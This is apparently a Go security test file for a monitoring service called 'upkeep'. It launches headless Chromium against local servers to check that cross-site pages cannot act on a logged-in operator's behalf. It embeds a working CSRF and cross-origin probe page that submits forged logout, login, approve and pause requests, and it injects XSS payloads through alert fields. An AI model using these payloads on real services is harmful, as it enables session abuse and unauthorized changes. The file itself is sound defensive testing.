package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"

	"github.com/ai-micro-service/upkeep/internal/platform/access"
	"github.com/ai-micro-service/upkeep/internal/product/console"
	"github.com/ai-micro-service/upkeep/internal/product/portal"
	"github.com/ai-micro-service/upkeep/internal/testbed/servertest"
)

// attackPage is a page that an operator opens who is logged in to the upkeep at TARGET. It sends
// what a page can send, reports what it could read, and goes on to NEXT.
const attackPage = `<!DOCTYPE html><title>cats</title><body><script>
const target = "TARGET", read = [];
async function ask(path, options) {
  try {
    const r = await fetch(target + path, {credentials: "include", ...options});
    read.push({path, status: r.status, text: await r.text()});
  } catch (e) { read.push({path, status: 0, text: ""}) }
}
function show(tag, attributes) {
  return new Promise(done => {
    const e = Object.assign(document.createElement(tag), attributes);
    e.onload = e.onerror = done;
    setTimeout(done, 1500);
    document.body.append(e);
  });
}
async function send(path, type, fields) {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = "f" + Math.random();
  Object.assign(form, {method: "post", action: target + path, enctype: type, target: frame.name});
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement("input"), {name, value}));
  document.body.append(frame, form);
  await new Promise(done => { frame.onload = done; setTimeout(done, 1500); form.submit(); });
}
(async () => {
  const query = "/api/v1/query?query=vector(1)[27h:1s]", pauses = "PREFIX/pauses";
  const pause = '{"scope":"all","reason":"x","by":"evil"}';
  for (const path of ["/", "/metrics", "PREFIX/status", "PREFIX/runs", query, "PREFIX/proof?challenge=01234567890123456789"]) {
    await ask(path, {});
    await ask(path, {mode: "no-cors"});
  }
  for (const path of [pauses, "PREFIX/runs", "PREFIX/logins", "/-/reload", "/logout", "/api/v1/query", "/api/v2/silences"]) {
    await ask(path, {method: "POST", body: pause, mode: "no-cors"});
    await ask(path, {method: "POST", body: pause, headers: {"Content-Type": "application/json"}});
  }
  await ask(pauses + "?scope=all", {method: "DELETE"});
  await show("img", {src: target + query});
  await show("script", {src: target + "PREFIX/status"});
  await show("link", {rel: "stylesheet", href: target + "PREFIX/status"});
  await show("iframe", {src: target + "/"});
  await show("object", {data: target + "/metrics"});
  await send(pauses, "text/plain", {'{"scope":"all","reason":"x","by":"': 'evil"}'});
  await send("/logout", "application/x-www-form-urlencoded", {});
  await send("/login", "application/x-www-form-urlencoded", {name: "ann", password: "ann's password"});
  await send("/approve", "application/x-www-form-urlencoded", {token: "x", answer: "approve"});
  await fetch("/report?step=STEP", {method: "POST", body: JSON.stringify(read)});
  location = "NEXT";
})();
</script>`

// A browserRequest is one that a browser made of an upkeep, with its answer.
type browserRequest struct {
	step               int // the page that made it
	method, host, path string
	site               string // what the browser says of who asks, to addresses that it trusts
	cookie             bool
	status             int
	shared             bool // other sites may read the answer
}

// elsewhere serves pages of other sites, and is a proxy before an upkeep that sees what a browser
// sends there. The pages follow one another.
type elsewhere struct {
	session *http.Cookie
	own     *httptest.Server // pages elsewhere
	before  *httptest.Server // before upkeep

	mu       sync.Mutex
	step     int
	requests []browserRequest
	reports  map[int]string
	xss      bool
}

// A pageStep is a page and whom it attacks. Chromium sends Sec-Fetch-Site to 127.0.0.1, and not
// to a name without TLS.
type pageStep struct{ from, target string }

const (
	named   = "upkeep.example.com"
	address = "127.0.0.1"
	evil    = "evil.example"
)

// steps are the pages, the last of which is one of upkeep's own.
func (e *elsewhere) steps() []pageStep {
	return []pageStep{{evil, address}, {evil, named}, {evil, evil}, {address, address}, {named, named}, {named, ""}}
}

// url is where the page of a step is. That of evil.example which attacks itself comes from the
// port of upkeep, as if the name had led to him a moment before.
func (e *elsewhere) url(step int) string {
	s := e.steps()[step]
	switch s.target {
	case "":
		return at(s.from, e.before) + "/"
	case evil:
		return at(evil, e.before) + "/cats"
	}
	return at(s.from, e.own) + "/cats"
}

func at(host string, s *httptest.Server) string {
	return "http://" + host + ":" + port(s.Listener.Addr().String())
}

// answer answers what does not go to upkeep.
func (e *elsewhere) answer(w http.ResponseWriter, r *http.Request) {
	e.mu.Lock()
	defer e.mu.Unlock()
	switch r.URL.Path {
	case "/begin": // a cookie is for all ports of a name
		http.SetCookie(w, e.session)
		if to := at(named, e.own) + "/begin"; !strings.HasPrefix(r.Host, named) {
			http.Redirect(w, r, to, http.StatusSeeOther)
			return
		}
		http.Redirect(w, r, e.url(0), http.StatusSeeOther)
	case "/cats":
		s, target := e.steps()[e.step], ""
		if s.target != evil {
			target = at(s.target, e.before)
		}
		text := strings.NewReplacer("TARGET", target, "PREFIX", console.Prefix, "NEXT", e.url(e.step+1), "STEP",
			strconv.Itoa(e.step)).Replace(attackPage)
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, text) // the browser may be gone
	case "/report":
		text, _ := io.ReadAll(r.Body) // what there is
		e.reports[e.step] = string(text)
		e.step++
	case "/xss":
		e.xss = true
	}
}

// serve passes to an upkeep what a browser asks for.
func (e *elsewhere) serve(t *testing.T, upkeep string) {
	t.Helper()
	to := &url.URL{Scheme: "http", Host: upkeep}
	proxy := &httputil.ReverseProxy{
		Transport: &http.Transport{}, // which shows no token by itself
		Rewrite:   func(r *httputil.ProxyRequest) { r.SetURL(to); r.Out.Host = r.In.Host },
		ModifyResponse: func(res *http.Response) error {
			r := res.Request
			e.mu.Lock()
			defer e.mu.Unlock()
			_, missing := r.Cookie(access.Cookie)
			e.requests = append(e.requests, browserRequest{e.step, r.Method, r.Host, r.URL.Path,
				r.Header.Get("Sec-Fetch-Site"), missing == nil, res.StatusCode,
				res.Header.Get("Access-Control-Allow-Origin") != ""})
			return nil
		},
	}
	e.before = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.Host, evil) && (r.URL.Path == "/cats" || r.URL.Path == "/report") {
			e.answer(w, r)
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(e.before.Close)
	e.own = httptest.NewServer(http.HandlerFunc(e.answer))
	t.Cleanup(e.own.Close)
}

// M10 and its kin in a real browser, whose user is logged in: pages of another site, of another
// port of the same name, and of a name that leads to upkeep change nothing and read nothing.
// Names of alerts run nothing on upkeep's own page.
func TestAttackFromChromium(t *testing.T) {
	t.Parallel()
	f := newFort(t, "")
	res, _ := tryFor(t, "POST", f.address, "/login", strings.NewReader(url.Values{"name": {"ann"},
		"password": {"ann's password"}}.Encode()), with("Content-Type", "application/x-www-form-urlencoded"))
	if len(res.Cookies()) == 0 || res.Cookies()[0].Name != access.Cookie {
		t.Fatal(res.Status)
	}
	e := &elsewhere{session: res.Cookies()[0], reports: make(map[int]string)}
	e.serve(t, f.address)
	f.hostileAlert(t, fmt.Sprintf(`</title><script>fetch("%[1]s/xss")</script><img src=x onerror="fetch('%[1]s/xss')">`,
		e.own.URL))
	browse(t, at(address, e.own)+"/begin")
	last := len(e.steps()) - 1
	shown := func(r browserRequest) bool {
		return r.step == last && r.path == "/" && r.status == http.StatusOK && r.cookie
	}
	servertest.Eventually(t, "the browser shows the page of upkeep, logged in", func() bool {
		e.mu.Lock()
		defer e.mu.Unlock()
		return slices.ContainsFunc(e.requests, shown)
	})
	e.judge(t)
	status, text := try(t, "GET", f.address, console.Prefix+"/pauses", "", as(access.View))
	if status != http.StatusOK || strings.Contains(text, "evil") {
		t.Errorf("the pauses: %d %s", status, text)
	}
	if status, _ := try(t, "GET", f.address, "/", "", func(r *http.Request) { r.AddCookie(e.session) }); status != 200 {
		t.Errorf("the session was ended: %d", status)
	}
}

// judge looks at what the pages have sent and read.
func (e *elsewhere) judge(t *testing.T) {
	t.Helper()
	e.mu.Lock()
	defer e.mu.Unlock()
	sent := make(map[int]int)
	for _, r := range e.requests {
		if r.step == len(e.steps())-1 || r.path == "/favicon.ico" {
			continue
		}
		sent[r.step]++
		want := []int{http.StatusForbidden}
		switch s := e.steps()[r.step]; {
		case s.target == evil:
			want = []int{http.StatusMisdirectedRequest}
		case s.target == named && r.method == http.MethodGet && s.from == evil:
			want = append(want, http.StatusUnauthorized, http.StatusOK) // as a stranger, below
		case s.target == named && r.method == http.MethodGet:
			want = append(want, http.StatusOK) // it looks, and shows the page nothing
		}
		open := r.path == portal.ProofPath
		if !slices.Contains(want, r.status) || r.shared || r.status == http.StatusOK && !r.cookie && !open {
			t.Errorf("%+v, want %d", r, want)
		}
		if e.steps()[r.step].from == evil && r.cookie {
			t.Errorf("%+v has the session", r)
		}
	}
	if e.xss {
		t.Error("the name of an alert was run")
	}
	for i := range len(e.steps()) - 1 {
		var read []struct {
			Path, Text string
			Status     int
		}
		if err := json.Unmarshal([]byte(e.reports[i]), &read); err != nil || len(read) < 20 || sent[i] < 20 {
			t.Errorf("page %d has sent %d requests: %v: %s", i, sent[i], err, e.reports[i])
		}
		for _, one := range read {
			if one.Text != "" && one.Status != http.StatusMisdirectedRequest {
				t.Errorf("page %d read %s: %d %.200s", i, one.Path, one.Status, one.Text)
			}
		}
	}
}

// hostileAlert delivers an alert whose every text is a name.
func (f *fort) hostileAlert(t *testing.T, name string) {
	t.Helper()
	text, err := json.Marshal(map[string]any{"version": "4", "alerts": []any{map[string]any{"status": "firing",
		"startsAt": "2026-01-01T00:00:00Z", "labels": map[string]string{"alertname": name, "table": name},
		"annotations": map[string]string{"summary": name, "runbook_url": "javascript:" + name}}}})
	if err != nil {
		t.Fatal(err)
	}
	if status, said := try(t, "POST", f.address, "/webhook/alertmanager", string(text), as(access.Deliver)); status != 200 {
		t.Fatalf("%d %s", status, said)
	}
}

// browse opens a page in Chromium, which ends with the test. Every name leads to this machine.
func browse(t *testing.T, page string) {
	t.Helper()
	dir := t.TempDir()
	cmd := exec.CommandContext(t.Context(), "chromium", "--headless=new", "--no-sandbox", "--disable-gpu",
		"--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking", "--remote-debugging-port=0",
		"--user-data-dir="+filepath.Join(dir, "profile"), "--host-resolver-rules=MAP * 127.0.0.1", page)
	cmd.Env = append(cmd.Environ(), "HOME="+dir)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatalf("%v (the tests need Debian's packages; make test installs them)", err)
	}
	t.Cleanup(func() {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) // it may have ended
		_ = cmd.Wait()                                      // by that signal
	})
}
